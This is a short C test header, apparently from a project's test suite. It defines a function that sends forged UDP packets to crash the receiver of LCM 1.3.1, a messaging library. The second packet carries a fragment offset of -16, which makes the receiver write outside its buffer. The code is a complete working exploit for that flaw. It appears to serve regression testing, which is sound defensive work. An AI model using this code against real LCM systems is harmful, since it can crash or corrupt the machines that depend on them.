/* A message that crashes LCM 1.3.1's receiver. */
#ifndef SB_TESTS_STREAM_FORGED_H
#define SB_TESTS_STREAM_FORGED_H

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Sends the first two packets of a message of three. The second states an offset of -16, where LCM's receiver then
   writes its bytes. */
static inline void send_forged_packets(const char *address, uint16_t port, const char *channel)
{
    const uint32_t offsets[2] = {0, 0xfffffff0U};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    const int out = socket(AF_INET, SOCK_DGRAM, 0);
    const unsigned char this_host = 0;
    setsockopt(out, IPPROTO_IP, IP_MULTICAST_TTL, &this_host, sizeof this_host);
    for (uint16_t k = 0; k < 2; k++) {
        char packet[256] = {0};
        const uint32_t head[4] = {htonl(0x4c433033), htonl(7), htonl(1U << 20), htonl(offsets[k])};
        const uint16_t part[2] = {htons(k), htons(3)};
        memcpy(packet, head, sizeof head);
        memcpy(packet + 16, part, sizeof part);
        if (k == 0) snprintf(packet + 20, sizeof packet - 20, "%s", channel);
        sendto(out, packet, 200, 0, (const struct sockaddr *)&to, sizeof to);
        usleep(10000);
    }
    close(out);
}

#endif
